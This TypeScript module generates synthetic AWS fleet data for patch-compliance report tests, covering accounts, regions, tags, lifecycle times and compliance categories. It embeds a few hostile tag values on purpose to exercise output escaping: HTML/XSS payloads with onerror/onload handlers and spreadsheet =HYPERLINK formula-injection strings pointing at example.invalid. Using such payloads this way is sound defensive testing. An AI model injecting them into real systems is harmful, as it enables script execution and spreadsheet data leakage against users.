/**
 * Accounts, Regions and the plan of each node: who it is (ids, platform, tags), how it lives (launch, image,
 * end, scan time) and which status it is steered to at the last snapshot. A plan is drawn from its own random
 * stream, seeded by (seed, node index), so no node depends on another.
 */
import { PLATFORMS, type Platform } from './catalogue.js';
import { DAY, MINUTE } from './clock.js';
import {
  between,
  chance,
  hash,
  hex,
  permute32,
  pick,
  type Random,
  randomStream,
  textHash,
  weighted,
} from './random.js';
import type { TruthStatus } from './truth.js';

export const REGIONS = [
  'us-east-1',
  'eu-west-1',
  'ap-southeast-2',
  'us-west-2',
  'eu-central-1',
  'ca-central-1',
  'ap-northeast-1',
  'sa-east-1',
  'eu-north-1',
  'ap-south-1',
  'us-east-2',
  'eu-west-2',
  'ap-southeast-1',
  'us-west-1',
  'eu-west-3',
  'ap-northeast-2',
];

const ENVIRONMENTS = ['prod', 'staging', 'dev'] as const;
export type Environment = (typeof ENVIRONMENTS)[number];
const TEAMS = ['payments', 'checkout', 'identity', 'data', 'platform', 'search'];
const ROLES = ['api', 'web', 'worker', 'batch', 'db', 'cache', 'queue', 'etl', 'gateway', 'ingest'];
/** SSM Agent versions in the field, newer ones more common. */
const AGENT_VERSIONS = [
  { weight: 2, value: '3.2.1630.0' },
  { weight: 3, value: '3.2.1798.0' },
  { weight: 4, value: '3.2.2016.0' },
  { weight: 6, value: '3.2.2303.0' },
  { weight: 6, value: '3.3.40.0' },
  { weight: 8, value: '3.3.484.0' },
  { weight: 10, value: '3.3.987.0' },
  { weight: 14, value: '3.3.1142.0' },
  { weight: 12, value: '3.3.1345.0' },
];
/** Node indexes that carry hostile tag values, so every fleet of 20 nodes or more exercises output escaping. */
const HOSTILE_NAME_INDEX = 7;
const HOSTILE_TEAM_INDEX = 13;
const HOSTILE_NAME = '<img src=x onerror=alert(1)>';
const HOSTILE_TEAM = '=HYPERLINK("https://example.invalid/?q="&A1,"Open report")';

export interface Account {
  readonly accountId: string;
  readonly name: string;
  readonly environment: Environment;
}

/** Accounts go prod, staging, dev, then round again; the second has a leading zero, as real ids can. */
export function account(index: number): Account {
  const environment = ENVIRONMENTS[index % ENVIRONMENTS.length] ?? 'dev';
  const round = Math.floor(index / ENVIRONMENTS.length);
  let accountId: string;
  if (index === 1) accountId = '022222222222';
  else if (index < 9) accountId = String(index + 1).repeat(12);
  else accountId = String(100_000_000_000 + index * 7_919);
  return { accountId, name: round === 0 ? environment : `${environment}-${round + 1}`, environment };
}

export interface FleetShape {
  readonly seed: number;
  readonly nodes: number;
  readonly accounts: number;
  readonly regions: number;
  readonly days: number;
  /** The last snapshot's instant. */
  readonly at: number;
  readonly firstSnapshot: number;
  /** Whether a few nodes carry hostile tag values (see hasHostileTags). */
  readonly hostileTags: boolean;
}

/**
 * Fleets of 20 nodes or more give nodes HOSTILE_NAME_INDEX and HOSTILE_TEAM_INDEX (and one unmanaged
 * instance) hostile Name and Team values, so every test fleet exercises output escaping; a demo turns it off.
 */
export function hasHostileTags(shape: FleetShape): boolean {
  return shape.hostileTags && shape.nodes >= 20;
}

/** Why a node steered to NON_COMPLIANT is so at the last snapshot. */
export type NonComplianceCause = 'missing' | 'failed' | 'pending' | 'rejected';

export interface NodePlan {
  readonly index: number;
  /** Hash input identifying the node in every decision about it. */
  readonly key: number;
  readonly account: Account;
  readonly region: string;
  readonly nodeId: string;
  readonly resourceType: 'EC2Instance' | 'ManagedInstance';
  readonly platform: Platform;
  readonly tags: readonly (readonly [key: string, value: string])[];
  readonly patchGroup: string | null;
  /** The status the node is steered to at the last snapshot (the truth is computed, not assumed). */
  readonly category: TruthStatus;
  readonly cause: NonComplianceCause | null;
  readonly launchedAt: number;
  /** When its machine image was built: patches released before came installed. */
  readonly imageAt: number;
  readonly endedAt: number | null;
  readonly endedStatus: 'Stopped' | 'Terminated';
  /** InstanceStatus while running: omitted (older agents) or ConnectionLost on a few. */
  readonly runningStatus: 'Active' | 'ConnectionLost' | null;
  /** When patch operations stop (the node dropped out of the scan targets): stale nodes. */
  readonly patchingStopsAt: number | null;
  /** Minute of the UTC day of its daily scan, never in a maintenance window's hour. */
  readonly scanMinute: number;
  readonly noReboot: boolean;
  /** How many baseline-approved patches it should report, before InstalledOther. */
  readonly approvedItemsTarget: number;
  readonly agentVersion: string;
  readonly computerName: string;
  readonly ipAddress: string;
  readonly interfaces: number;
  readonly applications: number;
  readonly awsComponents: number;
  readonly associations: number;
  readonly customCompliance: boolean;
  /** Never-scanned nodes with an empty AWS:ComplianceItem object instead of none. */
  readonly emptyComplianceItemFile: boolean;
  /** Offset into the week of its inventory collection. */
  readonly inventoryPhase: number;
}

const CATEGORIES: { weight: number; value: TruthStatus }[] = [
  { weight: 0.6, value: 'COMPLIANT' },
  { weight: 0.22, value: 'NON_COMPLIANT' },
  { weight: 0.05, value: 'STALE' },
  { weight: 0.05, value: 'NOT_SCANNED' },
  { weight: 0.08, value: 'INACTIVE' },
];
const CAUSES: { weight: number; value: NonComplianceCause }[] = [
  { weight: 0.5, value: 'missing' },
  { weight: 0.25, value: 'failed' },
  { weight: 0.18, value: 'pending' },
  { weight: 0.07, value: 'rejected' },
];
/** Inactive nodes ended within this many days before the last snapshot: ~0.3% of the fleet a day. */
const INACTIVE_SPAN_DAYS = 27;
/** Nodes launched or ended per day during a multi-day run. */
const CHURN_PER_DAY = 0.003;

/** Times are written to the second; keeping them whole seconds keeps what is written and what is meant equal. */
const wholeSecond = (t: number) => Math.floor(t / 1000) * 1000;

/** A scan minute outside 02:00-03:00 and 12:00-13:00 UTC, when the install windows run. */
function scanMinute(roll: number): number {
  let minute = Math.floor(roll * 1320);
  if (minute >= 120) minute += 60;
  if (minute >= 720) minute += 60;
  return minute;
}

/** Tags as owners write them: mostly `Team` and `Environment`, sometimes other casings, sometimes missing. */
function drawTags(
  random: Random,
  shape: FleetShape,
  index: number,
  node: { team: string; role: string; environment: Environment; windows: boolean },
): { tags: [string, string][]; patchGroup: string | null } {
  const { team, role, environment, windows } = node;
  const hostile = hasHostileTags(shape);
  const tags: [string, string][] = [];
  const nameRoll = random();
  if (hostile && index === HOSTILE_NAME_INDEX) tags.push(['Name', HOSTILE_NAME]);
  else if (nameRoll >= 0.05) {
    const owner = TEAMS.includes(team) ? team : 'ops';
    tags.push(['Name', `${owner}-${role}-${environment}-${String(index).padStart(4, '0')}`]);
  }
  const teamRoll = random();
  if (hostile && index === HOSTILE_TEAM_INDEX) tags.push(['Team', team]);
  else if (teamRoll < 0.82) tags.push(['Team', team]);
  else if (teamRoll < 0.92) tags.push(['team', team]);
  const environmentRoll = random();
  if (environmentRoll < 0.85) tags.push(['Environment', environment]);
  else if (environmentRoll < 0.95) tags.push([pick(random, ['environment', 'Env', 'env']), environment]);
  const patchGroup =
    random() < 0.95
      ? `${environment === 'prod' ? 'prod' : 'nonprod'}-${windows ? 'windows' : 'linux'}`
      : null;
  if (patchGroup !== null) tags.push(['Patch Group', patchGroup]);
  if (random() < 0.6) tags.push(['CostCenter', `CC-${between(random, 1000, 1040)}`]);
  if (random() < 0.25) tags.push(['Owner', `${TEAMS.includes(team) ? team : 'ops'}-oncall@example.com`]);
  return { tags, patchGroup };
}

/** The value of the first of `keys` the node is tagged with; null if none. */
export function tagValue(plan: NodePlan, ...keys: string[]): string | null {
  for (const key of keys) {
    const found = plan.tags.find(([k]) => k === key);
    if (found) return found[1];
  }
  return null;
}

/** The node's first three draws: where it runs, and whether it is an on-premises (`mi-`) node. */
function drawPlacement(
  random: Random,
  shape: FleetShape,
): { accountIndex: number; region: string; hybrid: boolean } {
  const accountIndex = Math.floor(random() * shape.accounts);
  const region = REGIONS[Math.floor(random() * shape.regions)] ?? 'us-east-1';
  return { accountIndex, region, hybrid: random() < 0.03 };
}

/**
 * Which nodes are EC2 instances with no working SSM Agent: exactly `round(nodes * pct / 100)` of them (at most
 * every EC2 instance: an on-premises node exists only through SSM, so it is never unmanaged), those EC2 nodes
 * whose own hash ranks lowest. The ranking reads only each node's placement draws, from a stream of its own,
 * so the plans and every byte of a fleet without unmanaged instances stay as they were.
 */
export function selectUnmanaged(shape: FleetShape, pct: number): Uint8Array {
  const selected = new Uint8Array(shape.nodes);
  const wanted = Math.round((shape.nodes * pct) / 100);
  if (wanted === 0) return selected;
  const salt = textHash('unmanaged rank');
  const candidates: { index: number; rank: number }[] = [];
  for (let index = 0; index < shape.nodes; index++) {
    const placement = drawPlacement(randomStream(shape.seed, index, textHash('node')), shape);
    if (!placement.hybrid) candidates.push({ index, rank: hash(shape.seed, index, salt) });
  }
  candidates.sort((a, b) => a.rank - b.rank || a.index - b.index);
  for (const { index } of candidates.slice(0, wanted)) selected[index] = 1;
  return selected;
}

/** Hostile tag values for one unmanaged instance, so output escaping is exercised for nodes without SSM data. */
const HOSTILE_UNMANAGED_NAME = '<svg onload=alert(2)>';
const HOSTILE_UNMANAGED_TEAM = '=HYPERLINK("https://example.invalid/?u="&A1,"Unmanaged")';

/** The plan with hostile Name and Team values (keeping the casing of a Team tag it already has). */
export function withHostileTags(plan: NodePlan): NodePlan {
  const tags = plan.tags.filter(([key]) => key !== 'Name' && key !== 'Team' && key !== 'team');
  const teamKey = plan.tags.find(([key]) => key === 'team') ? 'team' : 'Team';
  return {
    ...plan,
    tags: [['Name', HOSTILE_UNMANAGED_NAME], [teamKey, HOSTILE_UNMANAGED_TEAM], ...tags],
  };
}

export function planNode(shape: FleetShape, index: number): NodePlan {
  const random = randomStream(shape.seed, index, textHash('node'));
  const key = hash(shape.seed, index, textHash('node key'));
  const { accountIndex, region, hybrid } = drawPlacement(random, shape);
  const nodeAccount = account(accountIndex);
  // Random digits, then the index put through a keyed bijection: ids look random yet never collide.
  const nodeId = `${hybrid ? 'mi' : 'i'}-0${hex(random, 8)}${permute32(
    index,
    hash(shape.seed, textHash('node id')),
  )
    .toString(16)
    .padStart(8, '0')}`;
  const platform = weighted(
    random(),
    PLATFORMS.map((p) => ({ weight: p.weight, value: p })),
  );
  const windows = platform.platformType === 'Windows';
  const environment = nodeAccount.environment;

  let category = weighted(random(), CATEGORIES);
  // The lifecycle rolls are drawn whatever the category, so the category does not shift the draws after it.
  const causeRoll = random();
  const launchRoll = random();
  const launchedInRunRoll = random();
  const imageRoll = random();
  const endRoll = random();
  const endedInRunRoll = random();
  const staleRoll = random();
  const runDays = shape.days - 1;
  // Nodes launched during the run keep to the statuses a new node can reach.
  const launchedInRun =
    launchedInRunRoll < CHURN_PER_DAY * runDays &&
    (category === 'COMPLIANT' || category === 'NON_COMPLIANT' || category === 'NOT_SCANNED');
  const launchedAt = launchedInRun
    ? shape.firstSnapshot + launchRoll * Math.max(0, runDays - 1) * DAY
    : shape.firstSnapshot - (45 + launchRoll * 355) * DAY;
  const imageAt = launchedAt - (1 + imageRoll * 89) * DAY;

  let endedAt: number | null = null;
  if (category === 'INACTIVE') endedAt = shape.at - (0.5 + endRoll * (INACTIVE_SPAN_DAYS - 0.5)) * DAY;
  else if (runDays > INACTIVE_SPAN_DAYS && endedInRunRoll < CHURN_PER_DAY * (runDays - INACTIVE_SPAN_DAYS)) {
    // Long runs: keep ending ~0.3% a day before the inactive nodes' own span begins.
    endedAt = shape.firstSnapshot + endRoll * (runDays - INACTIVE_SPAN_DAYS) * DAY;
    category = 'INACTIVE';
  }
  const patchingStopsAt = category === 'STALE' ? shape.at - (8 + staleRoll * 32) * DAY : null;

  let cause: NonComplianceCause | null = category === 'NON_COMPLIANT' ? weighted(causeRoll, CAUSES) : null;

  const team = index === HOSTILE_TEAM_INDEX && hasHostileTags(shape) ? HOSTILE_TEAM : pick(random, TEAMS);
  const role = windows ? pick(random, ['iis', 'sql', 'ad', 'app']) : pick(random, ROLES);
  const { tags, patchGroup } = drawTags(random, shape, index, { team, role, environment, windows });

  // Only custom baselines block a package, so only nodes with a patch group can have a rejected one installed.
  if (cause === 'rejected' && patchGroup === null) cause = 'missing';
  const ipAddress = hybrid
    ? `192.168.${between(random, 0, 255)}.${between(random, 2, 254)}`
    : `10.${between(random, 0, 255)}.${between(random, 0, 255)}.${between(random, 4, 254)}`;
  const computerName = hybrid
    ? `onprem-${role}-${String(index % 1000).padStart(3, '0')}.corp.example.com`
    : windows
      ? `EC2AMAZ-${hex(random, 7).toUpperCase()}.WORKGROUP`
      : `ip-${ipAddress.replaceAll('.', '-')}.${region === 'us-east-1' ? 'ec2.internal' : `${region}.compute.internal`}`;

  const statusRoll = random();
  const rebootRoll = random();
  // Only nodes left to chance skip reboots of their own accord; steered ones must end rebooted, except those
  // whose non-compliance is the pending reboot.
  const naturalBehaviour = cause === 'missing' || category === 'INACTIVE' || category === 'NOT_SCANNED';
  return {
    index,
    key,
    account: nodeAccount,
    region,
    nodeId,
    resourceType: hybrid ? 'ManagedInstance' : 'EC2Instance',
    platform,
    tags,
    patchGroup,
    category,
    cause,
    launchedAt: wholeSecond(launchedAt),
    imageAt: wholeSecond(imageAt),
    endedAt: endedAt === null ? null : wholeSecond(endedAt),
    endedStatus: random() < 0.5 ? 'Stopped' : 'Terminated',
    runningStatus: statusRoll < 0.03 ? null : statusRoll < 0.05 ? 'ConnectionLost' : 'Active',
    patchingStopsAt: patchingStopsAt === null ? null : wholeSecond(patchingStopsAt),
    scanMinute: scanMinute(random()),
    noReboot: cause === 'pending' || (naturalBehaviour && rebootRoll < 0.1),
    approvedItemsTarget: between(random, 10, 30),
    agentVersion: weighted(random(), AGENT_VERSIONS),
    computerName,
    ipAddress,
    interfaces: random() < 0.85 ? 1 : 2,
    applications: between(random, 15, 40),
    awsComponents: between(random, 1, 3),
    associations: random() < 0.3 ? between(random, 1, 2) : 0,
    customCompliance: random() < 0.1,
    emptyComplianceItemFile: category === 'NOT_SCANNED' && chance(key, textHash('empty')) < 1 / 3,
    inventoryPhase: Math.floor(random() * 7 * 24 * 60) * MINUTE,
  };
}
